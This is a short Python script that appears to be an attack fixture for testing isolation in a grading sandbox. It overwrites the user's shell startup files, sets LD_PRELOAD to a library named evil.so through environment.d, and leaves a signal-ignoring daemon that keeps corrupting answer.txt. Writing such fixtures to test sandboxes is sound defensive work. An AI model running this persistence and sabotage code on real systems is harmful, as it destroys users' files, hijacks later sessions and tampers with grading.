"""Leaves a daemon that overwrites every file that appears in the home, and bends the environment of those who come after."""
import os
import signal
import sys
import time

home = os.path.expanduser('~')
for name in ('.bashrc', '.profile', '.bash_profile', '.bash_login', '.bash_logout', '.inputrc'):
    with open(f'{home}/{name}', 'w') as file:
        file.write('export MEDDLED=1\necho MEDDLED\n')
os.environ['MEDDLED'] = '1'
os.makedirs(f'{home}/.config/environment.d', exist_ok=True)
with open(f'{home}/.config/environment.d/60-meddle.conf', 'w') as file:
    file.write('MEDDLED=1\nLD_PRELOAD=/home/student/evil.so\n')
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        end = time.monotonic() + (3 if 'ATTACK_CONTROL' in os.environ else 1e9)
        while time.monotonic() < end:
            try:
                with open(f'{home}/answer.txt', 'r+') as file:
                    file.write('MEDDLED')
            except OSError:
                pass
            time.sleep(0.001)
    os._exit(0)
print('left')
